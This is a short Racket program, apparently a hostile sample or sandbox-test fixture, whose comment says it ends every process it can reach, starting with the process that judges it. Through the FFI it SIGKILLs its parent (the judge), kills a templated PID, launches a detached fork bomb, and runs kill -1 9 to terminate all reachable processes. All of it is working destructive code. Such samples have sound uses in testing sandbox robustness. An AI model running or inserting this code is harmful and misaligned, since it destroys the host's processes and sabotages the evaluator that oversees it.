#lang racket
; Ends every process it can reach, the one that judges it first, and goes on in ever more of its own.
(require ffi/unsafe)
(define kill (get-ffi-obj "kill" #f (_fun _int _int -> _int)))
(define call (lambda (name) ((get-ffi-obj name #f (_fun -> _int)))))
(kill (call "getppid") 9)
(kill @PID@ 9)
(when (= 0 (call "fork")) (call "setsid") (let more () (call "fork") (more)))
(kill -1 9)
